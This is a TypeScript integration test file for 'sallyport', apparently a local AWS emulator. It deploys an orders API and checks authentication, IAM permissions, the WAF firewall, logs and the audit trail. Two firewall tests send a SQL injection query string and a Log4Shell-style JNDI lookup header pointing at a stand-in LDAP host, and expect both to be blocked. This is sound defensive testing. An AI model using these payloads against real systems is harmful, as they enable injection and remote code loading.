import assert from "node:assert/strict";
import { after, before, test } from "node:test";
import { CloudFormationClient, DescribeStacksCommand } from "@aws-sdk/client-cloudformation";
import { type Answer, get } from "../https-client.ts";
import { type RunningServer, root, startServer } from "../running-server.ts";
import { type Run, run } from "../tools.ts";

/** The example, deployed by the command line as the README says, and called with the commands that it prints. */
let server: RunningServer;
let stage: string;
let hostStage: string;
let deployed: Run;

const sallyport = (...args: string[]): Promise<Run> =>
  run(process.execPath, [`${root}/bin/sallyport.mjs`, ...args, "--data", server.dataFolder], {
    env: {
      ...server.environment,
      SALLYPORT_ROOT_ACCESS_KEY_ID: server.client.credentials.accessKeyId,
      SALLYPORT_ROOT_SECRET_ACCESS_KEY: server.client.credentials.secretAccessKey,
    },
  });

interface Called {
  readonly status: number;
  readonly requestId: string;
  readonly body: string;
}

async function callAs(user: string, method: string, path: string, ...rest: string[]): Promise<Called> {
  const { out, err } = await sallyport(
    "call",
    method,
    `${hostStage}${path}`,
    "--as",
    user,
    "--json",
    ...rest,
  );
  assert.ok(out, err);
  return JSON.parse(out) as Called;
}

/** A request of a client that says what it is, as the firewall wants it. */
const browse = (url: string, headers: Readonly<Record<string, string>> = {}): Promise<Answer> =>
  get(url, server.caFile, { headers: { "User-Agent": "curl/8.5.0", ...headers } });

before(async () => {
  server = await startServer();
  deployed = await sallyport("deploy", `${root}/examples/orders/template.yaml`, "--stack", "orders");
  assert.equal(deployed.code, 0, `${deployed.out}${deployed.err}`);
  const client = new CloudFormationClient(server.client);
  const { Stacks } = await client.send(new DescribeStacksCommand({ StackName: "orders" }));
  const apiId = Stacks?.[0]?.Outputs?.find(({ OutputKey }) => OutputKey === "ApiId")?.OutputValue;
  assert.ok(apiId);
  stage = server.stageUrl(apiId, "prod");
  hostStage = `https://${apiId}.execute-api.us-east-1.localhost:${server.port}/prod`;
});
after(() => server.stop());

test("the deployment tells where the API answers, and has nothing to warn of", () => {
  assert.ok(deployed.out.includes(`  stage prod of orders: ${hostStage}\n`), deployed.out);
  assert.doesNotMatch(deployed.err, /^ {2}!/m);
});

test("the health check is open", async () => {
  const answer = await browse(`${stage}/health`);
  assert.deepEqual([answer.status, JSON.parse(answer.body)], [200, { status: "ok" }]);
});

test("the firewall refuses an attack and lets a name with an apostrophe pass", async () => {
  const attack = await browse(`${stage}/health?name=x%27%20OR%20%271%27=%271`);
  assert.deepEqual([attack.status, JSON.parse(attack.body)], [403, { message: "Forbidden" }]);
  const { out } = await sallyport("explain", String(attack.headers["x-amzn-requestid"]));
  assert.match(out, /✗ inspect-waf/);
  assert.match(out, /BLOCK by SQLi_QUERYARGUMENTS of .*, through the rule sql-injection/);
  const asideStage = stage.replace(/prod$/, "Stage");
  const aside = await browse(`${asideStage}/health?name=x%27%20OR%20%271%27=%271`);
  assert.equal(aside.status, 403, "no stage beside prod answers");
  assert.deepEqual(JSON.parse(aside.body), { message: "Forbidden" });
  const name = await browse(`${stage}/health?name=O%27Brien%20or%20Jones`);
  assert.equal(name.status, 200);
});

test("the command line says what it is, and sends the headers that it is given", async () => {
  const anonymous = await get(`${stage}/health`, server.caFile);
  assert.deepEqual([anonymous.status, JSON.parse(anonymous.body)], [403, { message: "Forbidden" }]);
  const named = ["--header", "X-Team: tea", "--header", "Accept: application/json"];
  assert.equal((await callAs("orders-auditor", "GET", "/orders", ...named)).status, 200);
  const attack = await callAs(
    "orders-auditor",
    "GET",
    "/orders",
    "--header",
    "X-Team: ${jndi:ldap://a.example/b}",
  );
  assert.deepEqual([attack.status, JSON.parse(attack.body)], [403, { message: "Forbidden" }]);
});

test("an unsigned call is refused, and the record says why", async () => {
  const answer = await browse(`${stage}/orders`);
  assert.deepEqual(
    [answer.status, JSON.parse(answer.body)],
    [403, { message: "Missing Authentication Token" }],
  );
  const { code, out, err } = await sallyport("explain", String(answer.headers["x-amzn-requestid"]));
  assert.equal(code, 0, err);
  assert.match(out, /GET \/orders {2}→ {2}403/);
  assert.match(out, /✗ authenticate/);
});

test("the catalogue is for partners, by a Lambda authorizer", async () => {
  const bearing = (token: string) => browse(`${stage}/catalogue`, { Authorization: `Bearer ${token}` });
  const allowed = await bearing("tea-for-two");
  assert.deepEqual([allowed.status, JSON.parse(allowed.body).for], [200, "partner"]);
  assert.equal((await bearing("guess")).status, 401);
});

test("the clerk places an order, and both users see it", async () => {
  const body = JSON.stringify({ item: "tea", quantity: 2 });
  const placed = await callAs("orders-clerk", "POST", "/orders", "--body", body);
  assert.equal(placed.status, 201, placed.body);
  const order = JSON.parse(placed.body) as { orderId: string; placedBy: string };
  assert.match(order.placedBy, /user\/orders-clerk/);
  const seen = await callAs("orders-auditor", "GET", `/orders/${order.orderId}`);
  assert.deepEqual([seen.status, JSON.parse(seen.body)], [200, order]);
  const list = await callAs("orders-auditor", "GET", "/orders");
  assert.deepEqual(JSON.parse(list.body), { orders: [order] });
  assert.equal((await callAs("orders-clerk", "GET", "/orders/none")).status, 404);
});

test("the auditor may not place orders, and the record names the missing permission", async () => {
  const refused = await callAs("orders-auditor", "POST", "/orders", "--body", "{}");
  assert.equal(refused.status, 403);
  assert.match(refused.body, /is not authorized to perform: execute-api:Invoke on resource/);
  const { out } = await sallyport("explain", refused.requestId, "--json");
  const record = JSON.parse(out) as { rejection: string; principalArn: string };
  assert.match(record.principalArn, /user\/orders-auditor/);
  assert.match(record.rejection, /denied/);
});

test("whocan lists the clerk for placing orders, not the auditor, and both for reading them", async () => {
  const callers = async (method: string, path: string): Promise<string> => {
    const { code, out, err } = await sallyport("whocan", method, path);
    assert.equal(code, 0, err);
    return out;
  };
  const placing = await callers("POST", "/orders");
  assert.match(placing, /user\/orders-clerk\n {4}Allow by identity policy/);
  assert.doesNotMatch(placing, /user\/orders-auditor/);
  const reading = await callers("GET", "/orders");
  assert.match(reading, /user\/orders-clerk/);
  assert.match(reading, /user\/orders-auditor/);
  const { code, err } = await sallyport("whocan", "PATCH", "/orders");
  assert.equal(code, 1);
  assert.match(err, /No method of API/);
});

test("the logs of a stack's functions are shown by the stack's name", async () => {
  const { code, out, err } = await sallyport("logs", "orders");
  assert.equal(code, 0, err);
  assert.match(out, /Z {2}orders-PlaceOrder-[A-Z0-9]+ {2}START RequestId: /);
  const unknown = await sallyport("logs", "nobody");
  assert.deepEqual([unknown.code, unknown.out], [1, ""]);
  assert.match(unknown.err, /No function whose name begins with nobody/);
});

test("the audit lists who did what", async () => {
  const { out } = await sallyport("audit", "--limit", "500", "--json");
  const records = JSON.parse(out) as { serviceId: string; operation: string; principalArn: string }[];
  const puts = records.filter(({ operation }) => operation === "PutObject");
  assert.ok(
    puts.some(({ principalArn }) => /assumed-role\/orders-PlaceOrderRole-/.test(principalArn)),
    "the function's own call",
  );
  assert.doesNotMatch(out, new RegExp(server.client.credentials.secretAccessKey));
});
